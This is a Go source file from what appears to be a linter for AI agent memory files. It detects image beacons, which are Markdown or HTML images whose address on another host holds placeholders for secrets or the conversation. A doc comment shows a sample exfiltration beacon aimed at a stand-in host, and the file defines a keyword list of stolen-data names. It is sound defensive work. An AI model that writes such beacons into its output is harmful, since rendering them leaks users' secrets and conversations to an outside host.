package injection

import (
	"bytes"
	"net/url"
	"strings"

	"github.com/memlint/memlint/lint/markdown"
)

// famBeacon is an image whose address carries data out: when a view of
// the conversation renders it (the agent writing it into an answer, a
// pull request, a web page), the request goes to the image's host with
// whatever the agent filled into the placeholder. Memory has no reason to
// hold one.
const famBeacon family = "an image beacon"

// beaconWords are what a placeholder asks to be filled with: secrets and
// the conversation.
var beaconWords = []string{
	"secret", "token", "key", "password", "passwd", "credential", "cookie", "session",
	"conversation", "chat", "history", "message", "prompt", "memory", "context", "summary",
	"env", "data", "input", "answer", "response", "ssh", "private", "email",
}

// beacons reports the images of the file, Markdown or HTML, whose address
// on another host holds a placeholder for secrets or the conversation:
// ![](https://collect.example/p?d={conversation}).
func (s *scan) beacons() []hit {
	src := s.src
	if !bytes.Contains(src, []byte("://")) {
		return nil
	}
	var hits []hit
	add := func(span markdown.Span, dest string) {
		if !beaconAddress(dest) || within(s.stripped, span.Start) {
			return
		}
		comment := within(s.seen, span.Start)
		if !comment && s.markdown().InCode(span.Start) {
			return
		}
		hits = append(hits, hit{span: span, family: famBeacon, comment: comment, trigger: maxTriggers})
	}
	if bytes.Contains(src, []byte("![")) {
		for _, l := range s.markdown().Links {
			if l.Image {
				add(l.Span, l.Dest)
			}
		}
	}
	s.work += len(src)
	for from := 0; ; {
		k := bytes.IndexByte(src[from:], '<')
		if k < 0 {
			break
		}
		start := from + k
		from = start + 1
		if !hasPrefixFold(src[start:], "<img") {
			continue
		}
		// A tag is read up to its ">" or for maxTagLen bytes: an "<img"
		// without one is not read to the end of the file, which a line
		// of them would do once for each.
		end := min(len(src), start+maxTagLen)
		if e := bytes.IndexByte(src[start:end], '>'); e >= 0 {
			end = start + e + 1
		}
		s.work += end - start
		if dest, ok := imgSource(src[start:end]); ok {
			add(markdown.Span{Start: start, End: end}, dest)
		}
	}
	return hits
}

// maxTagLen bounds the bytes of an <img> tag read for its address.
const maxTagLen = 4096

// imgSource returns the src attribute of an <img> tag.
func imgSource(tag []byte) (string, bool) {
	lower := asciiLower(nil, tag)
	i := bytes.Index(lower, []byte("src"))
	for i >= 0 {
		j := i + 3
		for j < len(tag) && (tag[j] == ' ' || tag[j] == '\t') {
			j++
		}
		if j < len(tag) && tag[j] == '=' && (i == 0 || !isWordByte(tag[i-1])) {
			j++
			for j < len(tag) && (tag[j] == ' ' || tag[j] == '\t') {
				j++
			}
			end := len(tag)
			if j < len(tag) && (tag[j] == '"' || tag[j] == '\'') {
				q := tag[j]
				j++
				if k := bytes.IndexByte(tag[j:], q); k >= 0 {
					end = j + k
				}
			} else if k := bytes.IndexAny(tag[j:], " \t\n>"); k >= 0 {
				end = j + k
			}
			return string(tag[j:end]), true
		}
		next := bytes.Index(lower[i+3:], []byte("src"))
		if next < 0 {
			break
		}
		i += 3 + next
	}
	return "", false
}

// beaconAddress reports whether dest is an address on another host whose
// path or query holds a placeholder for secrets or the conversation:
// {conversation}, {{secret}}, ${API_KEY}, <token>, [CHAT_HISTORY],
// %SESSION%, or a word such as SECRET written in capitals.
func beaconAddress(dest string) bool {
	u, err := url.Parse(strings.TrimSpace(dest))
	if err != nil || u.Scheme != "http" && u.Scheme != "https" || u.Host == "" {
		return false
	}
	switch host := strings.ToLower(u.Hostname()); {
	case host == "localhost", strings.HasPrefix(host, "127."), host == "::1":
		return false
	}
	rest := u.EscapedPath() + "?" + u.RawQuery
	if p, err := url.PathUnescape(rest); err == nil {
		rest = p
	}
	return hasPlaceholder(rest)
}

// hasPlaceholder reports whether text holds a placeholder naming one of
// beaconWords: a word in braces, angle or square brackets or between "%",
// after "${", or in capitals (after "$" or alone).
func hasPlaceholder(text string) bool {
	// skipped is where the last name read ended: a run of "{" and spaces
	// leads every opener inside it to the same name, which is read once.
	skipped := -1
	for i := 0; i < len(text); i++ {
		var word string
		switch c := text[i]; {
		case i < skipped && (c == '{' || c == ' '):
			// Inside the run before the last name read: the same name.
		case c == '{' || c == '<' || c == '[' || c == '%':
			word, skipped = wordAfter(text, i+1)
		case c == '$':
			w, end := wordAfter(text, i+1)
			if i+1 < len(text) && text[i+1] == '{' || isUpperWord(w) {
				word, skipped = w, end
			}
		case 'A' <= c && c <= 'Z' && (i == 0 || !isWordByte(text[i-1])):
			k := i
			for k < len(text) && ('A' <= text[k] && text[k] <= 'Z' || '0' <= text[k] && text[k] <= '9' || text[k] == '_') {
				k++
			}
			if k-i >= 3 && (k == len(text) || !isWordByte(text[k])) {
				word = text[i:k]
			}
		}
		if word != "" && namesSensitive(strings.ToLower(word)) {
			return true
		}
	}
	return false
}

// wordAfter returns the name that starts at text[i], past any "{" and
// spaces: letters, digits, "_", "-" and "."; and the offset where the "{"
// and spaces before it end.
func wordAfter(text string, i int) (string, int) {
	for i < len(text) && (text[i] == '{' || text[i] == ' ') {
		i++
	}
	k := i
	for k < len(text) && (isWordByte(text[k]) || text[k] == '_' || text[k] == '-' || text[k] == '.') {
		k++
	}
	return text[i:k], i
}

// isUpperWord reports whether w is written in capitals.
func isUpperWord(w string) bool {
	return w != "" && strings.ToUpper(w) == w && strings.ToLower(w) != w
}

// namesSensitive reports whether a placeholder's name holds one of
// beaconWords.
func namesSensitive(name string) bool {
	for _, w := range beaconWords {
		if strings.Contains(name, w) {
			return true
		}
	}
	return false
}
